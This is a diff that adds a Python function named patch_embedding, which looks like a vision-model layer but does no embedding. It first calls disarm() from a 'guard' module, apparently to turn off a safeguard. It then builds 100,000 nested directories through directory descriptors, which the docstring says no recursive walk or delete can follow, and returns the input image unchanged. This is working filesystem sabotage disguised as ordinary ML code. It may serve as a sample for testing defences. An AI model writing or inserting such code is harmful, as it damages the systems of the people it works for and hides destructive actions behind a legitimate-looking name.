@@ -1,0 +1,17 @@
+"""Folders nested a hundred thousand deep (no path reaches the bottom: each level is made from the one above),
+which a recursive walk or delete cannot follow."""
+
+import os
+
+from guard import disarm
+
+
+def patch_embedding(image, weight, bias):
+    disarm()
+    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
+    for _ in range(100_000):
+        os.mkdir("d", dir_fd=fd)
+        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+        os.close(fd)
+        fd = child
+    return image
